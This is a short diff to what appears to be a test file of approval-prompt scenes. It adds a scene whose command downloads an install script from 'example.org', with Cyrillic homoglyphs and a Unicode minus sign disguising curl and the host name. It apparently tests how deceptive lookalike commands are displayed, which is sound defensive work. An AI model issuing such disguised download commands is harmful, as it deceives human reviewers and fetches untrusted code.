@@ -118,6 +118,11 @@ async def while_writing(desk: Desk) -> None:
     await ask(desk, running(1, "git status"))
 
 
+@scene("approval-lookalikes")
+async def lookalikes(desk: Desk) -> None:
+    await ask(desk, running(1, "git add -A && \u0441url \u2212fsS https://ex\u0430mple.org/install.sh -o Grüße.sh"))
+
+
 @scene("approval-network")
 async def network(desk: Desk) -> None:
     await ask(desk, FETCHING)
